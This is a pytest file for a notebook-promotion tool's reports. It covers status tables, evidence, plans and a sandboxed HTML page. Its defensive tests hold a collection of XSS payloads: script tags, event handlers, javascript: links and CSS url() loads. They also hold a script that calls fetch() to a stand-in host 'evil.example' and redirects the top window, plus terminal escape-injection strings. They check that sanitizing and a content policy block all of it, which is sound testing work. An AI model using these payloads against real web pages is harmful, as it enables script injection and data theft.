"""What people and scripts are shown: text, JSON, and a page in which nothing can run."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import replace
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread

import pytest
from nbformat import v4, writes

from nbpromote import gate, report
from nbpromote.model import (
    Cell,
    Check,
    Code,
    Deployment,
    Ending,
    Environment,
    Event,
    Evidence,
    Finding,
    Gate,
    Mode,
    Model,
    Outcome,
    Plan,
    Policy,
    Promotion,
    Release,
    Run,
    Schema,
    Scrap,
    Status,
    sha256,
)
from nbpromote.report import charts, notebook
from nbpromote.report.harmless import harmless

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
RELEASE, OLDER, CODE = sha256(b"release"), sha256(b"older"), sha256(b"code")


@pytest.fixture
def run() -> Run:
    return Run(
        id="20261122T191005-7f3a91",
        notebook="train_delay",
        environment="staging",
        code=Code(digest=CODE, schema=Schema()),
        folder=Path("/project/.nbpromote/runs/20261122T191005-7f3a91"),
        started="2026-11-22T19:10:05.000Z",
        ended="2026-11-22T19:10:09.000Z",
        seconds=3.93,
        actor="Ada <ada@example.org>",
        commit=sha256(b"commit"),
        cells=(
            Cell(number=1, id="aaaa", ending=Ending.OK, seconds=0.004),
            Cell(number=2, id="bbbb", ending=Ending.OK, seconds=1.9),
        ),
        parameters={"months": [1, 2, 3], "sample": 0.05},
        inputs={"flights": "/data/staging/flights.parquet"},
        outputs={"residuals": "/data/staging/residuals.parquet"},
        withheld=("AWS_SECRET_ACCESS_KEY",),
        notes=("set_experiment('scratch') was redirected",),
    )


@pytest.fixture
def good(run: Run) -> Evidence:
    return Evidence(
        run=run,
        checks=(
            Check(name="ran-to-the-end", outcome=Outcome.PASSED, summary="2 of 2 cells ran", count=2),
            Check(name="outputs-match", outcome=Outcome.SKIPPED, summary="no baseline"),
        ),
        metrics={"rows_in": 9104, "mae": 12.874, "r2": 0.812},
        model=Model(uri="models:/m-1", files={"MLmodel": CODE}, name="staging.train_delay", version="3"),
        scraps=(
            Scrap(name="by_month", kind="table", value=[{"month": 1, "mae": 12.1}, {"month": 2, "mae": None}]),
            Scrap(name="residuals", kind="figure", cell=2),
        ),
    )


@pytest.fixture
def bad(good: Evidence) -> Evidence:
    """A cell raised, with the colours that IPython gives to tracebacks."""
    failing = Cell(number=3, id="cccc", ending=Ending.ERROR, error="KeyError", message="\x1b[31m'arrival'\x1b[0m")
    check = Check(
        name="ran-to-the-end",
        outcome=Outcome.FAILED,
        summary="cell 3 of 3 raised KeyError",
        details=("Traceback:\n  \x1b[31mKeyError\x1b[0m",),
    )
    return replace(good, run=replace(good.run, cells=(*good.run.cells, failing)), checks=(check,))


@pytest.fixture
def live() -> Deployment:
    return Deployment(
        notebook="train_delay",
        environment="staging",
        release=OLDER,
        alias="calm-heron",
        code=CODE,
        run="20261120T080000-aaaaaa",
        evidence=sha256(b"evidence"),
        tracking_uri="sqlite:///staging.db",
        settings="",
        parameters={"months": [1, 2], "sample": 0.05},
        metrics={"rows_in": 8800, "mae": 13.31, "r2": 0.796},
        model=Model(uri="m", files={"MLmodel": OLDER}, name="staging.train_delay", version="2"),
        since="2026-11-20T08:00:00.000Z",
        state="verified",
    )


GATES = (
    Gate(metric="mae", max=12, where="params/staging.policy.yaml:6"),
    Gate(metric="mae", versus="live", max_relative_increase=0.02, where="params/staging.policy.yaml:7"),
    Gate(metric="r2", min=0.9, mode=Mode.WARN, where="params/staging.policy.yaml:8"),
)


def executed(*outputs: object, source: str = "1 + 1", text: str = "# Title") -> str:
    cells = [v4.new_markdown_cell(text), v4.new_code_cell(source, outputs=list(outputs))]
    return writes(v4.new_notebook(cells=cells))


# -- text and JSON -------------------------------------------------------------------------------------------


def test_status_is_a_table_of_notebooks_by_environments(live: Deployment) -> None:
    rows = [
        Status(
            environment="dev",
            tracking_uri="",
            deployments=(live, replace(live, notebook="delay_report", model=None)),
        ),
        Status(environment="prod", tracking_uri="", deployments=(replace(live, state="unverified"),)),
    ]

    assert report.status(rows).splitlines() == [
        "notebook      dev                          prod",
        "────────────  ───────────────────────────  ───────────────────────────",
        "delay_report  calm-heron · mae 13.31       -",
        "              2026-11-20 08:00 verified",
        "",
        "train_delay   calm-heron · v2 · mae 13.31  calm-heron · v2 · mae 13.31",
        "              2026-11-20 08:00 verified    2026-11-20 08:00 unverified",
        "",
        "times are UTC",
    ]


def test_status_tells_what_needs_somebody(live: Deployment) -> None:
    row = Status(
        environment="dev",
        tracking_uri="",
        deployments=(live,),
        pending=("train_delay",),
        held={"train_delay": (RELEASE,)},
        open=("score_flights",),
    )

    told = report.status([row])

    assert "config pending" in told
    assert f"held      dev  train_delay    {RELEASE[:12]} may not come back" in told
    assert "half-way  dev  score_flights" in told


def test_status_of_three_environments_fits_in_100_columns_and_paints_only_when_asked(
    live: Deployment,
) -> None:
    rows = [Status(environment=e, tracking_uri="", deployments=(live,)) for e in ("dev", "staging", "prod")]

    assert max(map(len, report.status(rows).splitlines())) <= 100
    assert "\x1b" not in report.status(rows)
    assert "\x1b[32mverified\x1b[0m" in report.status(rows, colour=True)


def test_status_before_anything_is_live_says_what_to_do() -> None:
    told = report.status([Status(environment="dev", tracking_uri="", deployments=())])

    assert told == "nothing is live yet in dev\nthe first: nbpromote release NAME"


def test_status_json_holds_what_scripts_were_promised(live: Deployment) -> None:
    row = Status(environment="dev", tracking_uri="sqlite:///dev.db", deployments=(live,), pending=("train_delay",))

    (environment,) = report.status_json([row])["environments"]

    assert (environment["name"], environment["tracking_uri"]) == ("dev", "sqlite:///dev.db")
    assert environment["notebooks"] == [
        {
            "notebook": "train_delay",
            "release": OLDER,
            "alias": "calm-heron",
            "code": CODE,
            "state": "verified",
            "since": "2026-11-20T08:00:00.000Z",
            "model": {
                "name": "staging.train_delay",
                "version": "2",
                "sha256": live.model and live.model.sha256,
            },
            "run": "20261120T080000-aaaaaa",
            "metrics": {"rows_in": 8800, "mae": 13.31, "r2": 0.796},
            "config_pending": True,
        }
    ]


def test_status_and_history_import_nothing_heavy() -> None:
    heavy = ("rich", "jinja2", "nbformat", "nbconvert", "bleach", "pydantic", "mlflow", "pandas")
    program = f"""
import sys
from nbpromote import report
from nbpromote.model import Status
report.status([Status(environment="dev", tracking_uri="", deployments=())]), report.history([])
print([name for name in {heavy} if name in sys.modules])
"""
    done = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, check=True)

    assert done.stdout.strip() == "[]"


def events(*steps: tuple[str, str, str, str]) -> list[Event]:
    return [
        Event(
            id=f"e{minute}",
            at=f"2026-11-22T10:{minute:02}:00.000Z",
            actor="ada",
            verb=verb,
            step=step,
            environment="prod",
            notebooks=("train_delay",),
            attempt=attempt,
            release=RELEASE,
            alias="brisk-otter",
            reason=reason,
        )
        for minute, (verb, step, attempt, reason) in enumerate(steps)
    ]


ROAD = (
    ("promote", "intent", "a", "weekly retrain"),
    ("promote", "live", "a", ""),
    ("promote", "verified", "a", ""),
    ("rollback", "done", "b", "predictions\ndrifted"),
    ("promote", "intent", "c", ""),
)


def test_history_is_one_line_an_attempt_newest_first() -> None:
    assert report.history(events(*ROAD)).splitlines() == [
        "when              where  notebook     what      outcome   release      who  why",
        "2026-11-22 10:04  prod   train_delay  promote   half-way  brisk-otter  ada",
        "2026-11-22 10:03  prod   train_delay  rollback  done      brisk-otter  ada  predictions drifted",
        "2026-11-22 10:00  prod   train_delay  promote   verified  brisk-otter  ada  weekly retrain",
    ]


def test_history_json_is_every_event_oldest_first() -> None:
    told = report.history_json(list(reversed(events(*ROAD))))["events"]

    assert [event["id"] for event in told] == ["e0", "e1", "e2", "e3", "e4"]
    keys = "id at actor verb step environment notebooks release alias attempt reason commit"
    assert list(told[0]) == keys.split()


def test_evidence_of_a_failing_run_starts_with_the_verdict_and_the_cell(bad: Evidence) -> None:
    told = report.evidence(bad)

    assert told.splitlines()[:2] == [
        "not passed: train_delay in staging, 2 of 3 cells ran in 3.9 s",
        "cell 3 of 3 (cccc) failed: KeyError: 'arrival'",
    ]
    assert "failed  ran-to-the-end  cell 3 of 3 raised KeyError\n    Traceback:\n      KeyError\n" in told
    assert "AWS_SECRET_ACCESS_KEY" in told
    assert "set_experiment" in told
    assert "/project/.nbpromote/runs/20261122T191005-7f3a91/notebook.ipynb" in told
    assert "\x1b" not in told


def test_of_many_withheld_variables_those_that_the_failure_speaks_of_come_first(bad: Evidence) -> None:
    run = replace(bad.run, withheld=(*(f"CI_{number:03}" for number in range(90)), "arrival"))

    told = report.evidence(replace(bad, run=run))

    assert "lets them in): arrival, CI_000, CI_001" in told
    assert "and 79 more" in " ".join(told.split())
    assert "CI_011" not in told


def test_evidence_of_a_good_run_shows_metrics_aligned_and_no_withheld_names(good: Evidence) -> None:
    told = report.evidence(good)

    assert told.startswith("passed: train_delay in staging, 2 of 2 cells ran in 3.9 s\n")
    assert "metrics\n  rows_in  9,104\n  mae      12.87\n  r2       0.812\n\n" in told
    assert "AWS_SECRET_ACCESS_KEY" not in told


def test_evidence_without_a_check_is_no_pass(good: Evidence) -> None:
    told = report.evidence(replace(good, checks=()))

    assert told.startswith("not passed")
    assert "nothing is proved" in told


@pytest.mark.parametrize(
    ("ending", "said"),
    [
        (Ending.STOPPED, "cell 2 of 2 (bbbb) stopped itself: SystemExit: 0"),
        (Ending.DIED, "cell 2 of 2 (bbbb) took the kernel down: SystemExit: 0"),
        (Ending.TIMED_OUT, "cell 2 of 2 (bbbb) ran out of time: SystemExit: 0"),
        (Ending.NOT_REACHED, "cell 2 of 2 (bbbb) was not reached: SystemExit: 0"),
    ],
)
def test_every_ending_has_its_words(bad: Evidence, ending: Ending, said: str) -> None:
    first, second, _ = bad.run.cells
    cells = (first, replace(second, ending=ending, error="SystemExit", message="0"))

    assert said in report.evidence(replace(bad, run=replace(bad.run, cells=cells)))


def test_evidence_json_is_plain_json_with_the_failure(bad: Evidence) -> None:
    told = json.loads(json.dumps(report.evidence_json(bad), allow_nan=False))

    assert told["passed"] is False
    assert told["evidence"] == bad.digest
    assert told["failure"] == {
        "number": 3,
        "id": "cccc",
        "ending": "error",
        "seconds": None,
        "error": "KeyError",
        "message": "'arrival'",
    }


@pytest.fixture
def planned(live: Deployment) -> Plan:
    return Plan(
        notebook="train_delay",
        release=RELEASE,
        alias="brisk-otter",
        source="dev",
        target="staging",
        strategy="retrain",
        code=CODE,
        incumbent=live,
        parameters={"months": [1, 2, 3]},
        origins={"months": "params/staging.yaml:6"},
        changed={"months": ([1, 2], [1, 2, 3])},
        gates=GATES,
        unmet=("HEAD holds other code",),
    )


def test_a_plan_shows_what_would_change_and_what_is_unmet(planned: Plan) -> None:
    told = report.plan(planned)

    assert told.startswith("not ready: train_delay from dev to staging\n")
    assert "calm-heron" in told
    assert "  months  [1, 2] -> [1, 2, 3]  params/staging.yaml:6\n" in told
    assert "  mae at most 2 % above live  params/staging.policy.yaml:7\n" in told
    assert "still unmet\n  - HEAD holds other code\n" in told
    assert told.endswith("nothing was changed")


def test_a_first_plan_says_which_gates_are_not_asked(planned: Plan) -> None:
    told = report.plan(replace(planned, incumbent=None, unmet=()))

    assert told.startswith("ready: ")
    assert "nothing: the first in staging" in told
    assert "  mae at most 2 % above live  not asked: nothing is live\n" in told


def test_plan_json_names_both_ends_and_both_values(planned: Plan) -> None:
    told = json.loads(json.dumps(report.plan_json(planned)))

    assert (told["from"], told["to"], told["allowed"]) == ("dev", "staging", False)
    assert told["changed"] == {"months": {"live": [1, 2], "candidate": [1, 2, 3]}}
    assert told["incumbent"]["alias"] == "calm-heron"


def test_a_decision_tells_refusals_first_then_warnings_then_the_rest(bad: Evidence, live: Deployment) -> None:
    decision = gate.decide(bad, GATES, live=live, environment="staging")

    lines = report.decision(decision).splitlines()

    assert lines[0] == "refused: 3 gates asked at the door of staging"
    assert [line.split()[0] for line in lines[2:5]] == ["failed", "warning", "passed"]
    assert lines[6:] == ["also unmet", "  - ran-to-the-end failed: cell 3 of 3 raised KeyError"]
    assert report.decision_json(decision)["gates"][0]["refuses"] is True


def test_a_promotion_tells_what_is_live_now(planned: Plan, good: Evidence, live: Deployment) -> None:
    fresh = replace(live, release=RELEASE, alias="brisk-otter")
    check = Check(name="predicts", outcome=Outcome.PASSED, summary="5 predictions agree")
    promotion = Promotion(plan=planned, evidence=good, deployment=fresh, verification=(check,))

    assert report.promotion(replace(promotion, plan=replace(planned, unmet=()))).splitlines() == [
        f"live: train_delay brisk-otter ({RELEASE[:12]}) in staging, model version 2, in place of calm-heron",
        "",
        "verification",
        "passed  predicts  5 predictions agree",
    ]
    assert json.loads(json.dumps(report.promotion_json(promotion)))["deployment"]["alias"] == "brisk-otter"


def test_a_refused_promotion_tells_every_reason_together(planned: Plan, bad: Evidence, live: Deployment) -> None:
    decision = gate.decide(bad, GATES, live=live, environment="staging")

    told = report.promotion(Promotion(plan=planned, evidence=bad, decision=decision))

    assert told.startswith("not live: train_delay brisk-otter")
    for reason in ("HEAD holds other code", "cell 3 of 3 (cccc) failed", "above the limit of 12", "also unmet"):
        assert reason in told


@pytest.mark.parametrize(("state", "said"), [("unverified", "live, and not yet verified: "), ("failed", "failed: ")])
def test_a_promotion_that_is_not_verified_does_not_sound_done(
    planned: Plan, live: Deployment, state: str, said: str
) -> None:
    assert report.promotion(Promotion(plan=planned, deployment=live.with_state(state))).startswith(said)


def test_findings_read_as_a_linter_s() -> None:
    found = [
        Finding(path="params/prod.yaml", line=7, message="unknown parameter 'alhpa'", hint="did you mean 'alpha'?"),
        Finding(path="notebooks/a.ipynb", code="NBP203", cell=3, cell_id="abc", message="reassigned"),
    ]

    assert report.findings(found) == (
        "params/prod.yaml:7: unknown parameter 'alhpa'\n"
        "    did you mean 'alpha'?\n"
        "notebooks/a.ipynb: NBP203 reassigned [cell 3, abc]\n"
        "2 problems found"
    )
    assert report.findings([]) == "no problem found"
    assert report.findings_json(found)["findings"][0]["line"] == 7


def test_parameters_show_where_each_value_comes_from() -> None:
    environment = Environment(
        name="prod",
        tracking_uri="sqlite:///prod.db",
        policy=Policy(),
        parameters={"months": [1, 2]},
        inputs={"flights": "/data/flights"},
        origins={"months": "params/prod.yaml:6", "flights": "params/base.yaml:3"},
    )

    assert report.parameters(environment).splitlines() == [
        "name     value                   from",
        'flights  "/data/flights"  input  params/base.yaml:3',
        "months   [1, 2]                  params/prod.yaml:6",
    ]
    assert [p["kind"] for p in report.parameters_json(environment)["parameters"]] == ["input", "value"]


def test_what_a_notebook_wrote_cannot_steer_the_terminal(good: Evidence) -> None:
    trick = "ok\x1b]0;owned\x07\x1b[2J\r\x08\u202e\x9b31m"
    check = Check(name="outputs-match", outcome=Outcome.PASSED, summary=trick, details=(trick,))

    told = report.evidence(replace(good, checks=(check,)), colour=True)

    assert "owned" not in told
    left = told.replace("\x1b[32m", "").replace("\x1b[31m", "").replace("\x1b[1m", "").replace("\x1b[0m", "")
    assert all(letter == "\n" or letter.isprintable() for letter in left)


# -- numbers to pictures -------------------------------------------------------------------------------------


def test_relative_limits_are_drawn_where_the_gate_ends(good: Evidence, live: Deployment) -> None:
    verdicts = gate.decide(good, GATES, live=live, environment="staging").verdicts

    mae, r2, rows = charts.metrics(good.metrics, live.metrics, verdicts)

    assert [(limit.label, limit.broken) for limit in mae.limits] == [("≤ 12", True), ("≤ 13.58", False)]
    assert (mae.mood, r2.mood, rows.mood) == ("better", "better", "")
    assert mae.change == "-0.436 (-3.3 %)"


@pytest.mark.parametrize("values", [(0.0, 0.0), (-3.0, 2.0), (1e-9, 1e12), (float("nan"), 1.0)])
def test_no_bar_leaves_the_picture(values: tuple[float, float]) -> None:
    (drawn,) = charts.metrics({"x": values[0]}, {"x": values[1]}, ())

    for bar in (drawn.bar, drawn.live_bar):
        assert bar is None or (bar.start >= 0 and bar.start + bar.length <= 100.5)


# -- the page ------------------------------------------------------------------------------------------------


class Outline(HTMLParser):
    """What a browser would be given: elements, attributes and the words between them."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.words = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.words += data

    def all(self, tag: str) -> list[dict[str, str | None]]:
        return [attributes for name, attributes in self.elements if name == tag]

    @property
    def policies(self) -> list[str | None]:
        return [meta["content"] for meta in self.all("meta") if "http-equiv" in meta]

    @property
    def handlers(self) -> list[str]:
        return [name for _, attributes in self.elements for name in attributes if name.startswith("on")]


def framed(page: str) -> str:
    (frame,) = Outline(page).all("iframe")
    return frame["srcdoc"] or ""


def test_the_page_shows_verdict_metrics_gates_checks_parameters_tables_and_figures(
    good: Evidence, live: Deployment
) -> None:
    decision = gate.decide(good, GATES, live=live, environment="staging")
    figure = v4.new_output("display_data", {"image/png": PIXEL}, metadata={"scrapbook": {"name": "residuals"}})

    page = report.page(good, executed=executed(figure), live=live, decision=decision, alias="brisk-otter")

    outline = Outline(page)
    for word in (
        "Release brisk-otter",
        "Passed",
        "Refused at staging",
        "12.87",
        "-0.436 (-3.3 %)",
        "≤ 13.58",
    ):
        assert word in outline.words
    for word in ("mae is 12.874, above the limit of 12", "ran-to-the-end", "[1, 2, 3]", "[1, 2]", "by_month"):
        assert word in outline.words
    assert [image["src"] for image in outline.all("img")] == [f"data:image/png;base64,{PIXEL}"]
    assert all(image["alt"] for image in outline.all("img"))
    assert len(outline.all("caption")) == len(outline.all("table"))
    assert "<h1>Title</h1>" in framed(page).replace(' id="Title"', "")


def test_the_page_of_a_failing_run_says_why_on_top(bad: Evidence) -> None:
    words = Outline(report.page(bad, executed=executed())).words

    assert "Not passed" in words
    assert words.index("cell 3 of 3 (cccc) failed: KeyError: 'arrival'") < words.index("Metrics")


def test_the_page_of_a_release_needs_no_alias_and_no_live_deployment(good: Evidence) -> None:
    release = Release(
        notebook="train_delay",
        path="notebooks/train_delay.ipynb",
        code=CODE,
        schema=Schema(),
        created="2026-11-22T19:10:05.000Z",
        author="ada",
        commit=None,
        lock=None,
        evidence=good.digest,
        metrics=good.metrics,
        files={},
    )

    assert f"Release {release.digest[:12]}" in report.page(good, executed=executed(), release=release)


@pytest.mark.parametrize("text", ["", "{", "[]", '{"cells": 3}', "<html>"])
def test_a_notebook_that_cannot_be_read_leaves_the_rest_of_the_page(good: Evidence, text: str) -> None:
    page = report.page(good, executed=text)

    assert "cannot be read" in page
    assert not Outline(page).all("iframe")


def test_the_page_is_small_without_the_figures(good: Evidence) -> None:
    assert len(report.page(good, executed=executed())) < 100_000


def test_the_page_is_the_same_each_time(good: Evidence) -> None:
    text = executed()

    assert report.page(good, executed=text) == report.page(good, executed=text)


def test_templates_in_the_working_folder_are_not_run(
    good: Evidence, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("basic", "classic", "base"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "index.html.j2").write_text("owned")
        (tmp_path / name / "base.html.j2").write_text("owned")
    monkeypatch.chdir(tmp_path)

    assert "owned" not in report.page(good, executed=executed())


def test_plain_pictures_and_tables_of_a_notebook_are_kept() -> None:
    kept = (
        '<table class="dataframe"><tr><td style="text-align: right">1</td></tr></table>'
        f'<img src="data:image/png;base64,{PIXEL}">'
        "<style>#T_1 {color: red}</style><details open><summary>more</summary></details>"
    )
    output = v4.new_output("display_data", {"text/html": kept, "text/plain": "x"})

    document = notebook.document(notebook.read(executed(output)))

    for part in (
        '<td style="text-align: right">1</td>',
        PIXEL,
        "#T_1 {color: red}",
        "<summary>more</summary>",
    ):
        assert part in document


@pytest.mark.parametrize(
    ("html", "left"),
    [
        ("<p>a &amp; b</p>", "<p>a &amp; b</p>"),
        ("a<br/>b<img alt='c'/>", 'a<br>b<img alt="c">'),
        ("<script>x</script>y", "y"),
        ("<svg><svg>x</svg></svg>y", "y"),
        ("<svg/>y<embed src=x>z", "yz"),
        ("<custom-tag onclick=x>y</custom-tag>", "y"),
        ("<a href=' javascript:x'>y</a><a href='#z'>z</a>", '<a>y</a><a href="#z">z</a>'),
        ("<img src='http://x'><img src='data:text/html,x'>", "<img><img>"),
        ("<p title='\"><script>'>x</p>", '<p title="&quot;&gt;&lt;script&gt;">x</p>'),
        ("<style>a > b {content: '<!--'}</style>", "<style>a > b {content: '\\3c !--'}</style>"),
        ("<!-- <p> --><!DOCTYPE x><?php x ?>y", "y"),
        ("&lt;script&gt;", "&lt;script&gt;"),
    ],
)
def test_what_may_stay_is_listed(html: str, left: str) -> None:
    assert harmless(html) == left


def test_a_picture_is_preferred_to_a_script_or_widget() -> None:
    output = v4.new_output(
        "display_data",
        {
            "application/javascript": "x()",
            "application/vnd.jupyter.widget-view+json": {"model_id": "x"},
            "image/png": PIXEL,
            "text/plain": "x",
        },
    )

    assert PIXEL in notebook.document(notebook.read(executed(output)))


# -- a notebook that means harm ------------------------------------------------------------------------------

HARM = """
<script>{script}</script><img src=x onerror="{script}"><svg onload="{script}"><script>{script}</script></svg>
<a href="javascript:{script}" id=go>go</a><a href="{url}link">link</a><iframe src="{url}frame"></iframe>
<iframe srcdoc="<script>{script}</script>"></iframe><meta http-equiv=refresh content="0;url={url}refresh">
<link rel=stylesheet href="{url}css"><link rel=prefetch href="{url}prefetch"><base href="{url}base">
<style>@import url({url}import); body {{ background: url({url}background) }}
@font-face {{ font-family: x; src: url({url}font) }} * {{ font-family: x }}</style>
<p style="background-image: url({url}style)">p</p><img src="{url}img">
<video src="{url}video" autoplay></video>
<object data="{url}object"></object><embed src="{url}embed"><form action="{url}form"><input autofocus
onfocus="{script}"></form><details open ontoggle="{script}">d</details><math><mtext><style><img src=x
onerror="{script}"></style></mtext></math></iframe>"></iframe>'><script>{script}</script></body></html>
<script>{script}</script><noscript><p title="</noscript><img src=x onerror={script}>"></noscript>
"""


def harm(url: str) -> str:
    script = f"document.title=top.document.title=parent.document.title='owned';fetch('{url}fetch');"
    script += f"new Image().src='{url}image';top.location='{url}top'"
    return HARM.format(script=script, url=url)


def hostile(good: Evidence, url: str) -> tuple[Evidence, str]:
    """Harm in every place that a notebook or its author can write to."""
    text = harm(url)
    run = replace(
        good.run,
        notebook=text,
        environment=text,
        actor=text,
        kernel=text,
        parameters={text: text},
        notes=(text,),
        cells=(Cell(number=1, id=text, ending=Ending.ERROR, seconds=1, error=text, message=text),),
    )
    evidence = replace(
        good,
        run=run,
        checks=(Check(name=text, outcome=Outcome.FAILED, summary=text, details=(text,)),),
        metrics={text: 1.0, "mae": 2.0},
        scraps=(
            Scrap(name=text, kind="table", value=[{text: text}]),
            Scrap(name="figure", kind="figure"),
        ),
    )
    outputs = [
        v4.new_output("stream", text=text),
        v4.new_output("error", ename=text, evalue=text, traceback=[text]),
        v4.new_output("display_data", {"text/html": text}),
        v4.new_output("display_data", {"text/html": text}, metadata={"text/html": {"isolated": True}}),
        v4.new_output("display_data", {"text/markdown": text}),
        v4.new_output("display_data", {"text/latex": text}),
        v4.new_output("display_data", {"application/javascript": text}),
        v4.new_output("display_data", {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'>{text}</svg>"}),
        v4.new_output(
            "display_data",
            {"image/png": f'{PIXEL}"><script>{text}</script>'},
            metadata={
                "scrapbook": {"name": "figure"},
                "image/png": {"width": '1 onload="x"', "alt": text},
            },
        ),
    ]
    return evidence, executed(*outputs, source=text, text=text)


def test_harm_in_names_values_and_outputs_stays_words(good: Evidence, live: Deployment) -> None:
    evidence, text = hostile(good, "http://evil.example/")

    page = report.page(evidence, executed=text, live=replace(live, alias=harm("http://evil.example/")))

    outline, frame = Outline(page), Outline(framed(page))
    for document in (outline, frame):
        assert not document.all("script")
        assert not document.handlers
        assert document.policies == [notebook.CSP]
        assert {tag for tag, _ in document.elements}.isdisjoint({"link", "base", "form", "object", "embed"})
    assert len(outline.all("iframe")) == 1
    assert outline.all("iframe")[0]["sandbox"] is None, "nothing is allowed in the frame"
    addresses = [value for _, found in frame.elements for name, value in found.items() if name in ("src", "href")]
    assert all((address or "").startswith(("data:image/", "#")) for address in addresses)
    assert "default-src 'none'" in notebook.CSP


class Server(ThreadingHTTPServer):
    """Remembers every path that it was asked for."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        super().__init__(("127.0.0.1", 0), Listener)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_port}/"


class Listener(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        assert isinstance(self.server, Server)
        self.server.asked.append(self.path)
        self.send_response(204)
        self.end_headers()

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def server() -> Iterator[Server]:
    server = Server()
    thread = Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()
    thread.join()


def opened(page: str, folder: Path) -> str:
    """The page as a real browser holds it, three seconds after it was opened."""
    file = folder / "page.html"
    file.write_text(page)
    switches = (
        "--headless --no-sandbox --disable-gpu --no-first-run --disable-background-networking "
        "--disable-component-update --disable-sync --virtual-time-budget=3000 --dump-dom"
    )
    command = ["chromium", *switches.split(), f"--user-data-dir={folder / 'profile'}", file.as_uri()]
    return subprocess.run(command, capture_output=True, text=True, timeout=60, check=True).stdout


needs_browser = pytest.mark.skipif(
    shutil.which("chromium") is None,
    reason="NO BROWSER: `chromium` is not on PATH, so nobody watched whether a hostile notebook runs",
)


@needs_browser
@pytest.mark.parametrize("allow_list", [True, False], ids=["as it is", "policy and frame alone"])
def test_in_a_real_browser_nothing_runs_and_nothing_is_fetched(
    good: Evidence, server: Server, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, allow_list: bool
) -> None:
    if not allow_list:
        monkeypatch.setattr(notebook, "harmless", str)
    evidence, text = hostile(good, server.url)
    page = report.page(evidence, executed=text)

    dom = opened(page, tmp_path)

    assert "<title>owned</title>" not in dom
    assert Outline(dom).all("iframe"), "the page was replaced"
    assert server.asked == []


@needs_browser
def test_the_same_harm_works_in_an_open_frame(
    good: Evidence, server: Server, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Without this, the test above would pass for a browser that shows no frame."""
    monkeypatch.setattr(notebook, "harmless", str)
    monkeypatch.setattr(notebook, "CSP", "default-src * data: 'unsafe-inline'")
    script = f"<script>top.document.title='owned';new Image().src='{server.url}image'</script>"
    page = report.page(good, executed=executed(v4.new_output("display_data", {"text/html": script})))

    dom = opened(page.replace("<iframe sandbox", "<iframe"), tmp_path)

    assert "<title>owned</title>" in dom
    assert server.asked == ["/image"]
